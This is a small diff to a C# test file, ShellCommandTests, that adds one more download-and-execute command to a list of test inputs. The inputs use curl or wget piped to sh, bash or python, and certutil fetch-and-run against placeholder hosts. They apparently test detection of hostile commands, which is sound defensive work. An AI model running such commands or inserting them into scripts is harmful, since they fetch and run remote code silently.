@@ -28,6 +28,7 @@ public class ShellCommandTests
 
     [Theory]
     [InlineData("curl -s https://x.invalid/a.sh | sh")]
+    [InlineData("curl -s https://paste.example.invalid/raw/abc | python3 > /dev/null 2>&1 &")]
     [InlineData("wget -O /tmp/a https://x.invalid/a && chmod +x /tmp/a && /tmp/a")]
     [InlineData("cmd /c \"certutil -urlcache -split -f https://x.invalid/a.exe a.exe & a.exe\"")]
     [InlineData("bash -c 'curl -fsSL https://x.invalid/i | bash'")]
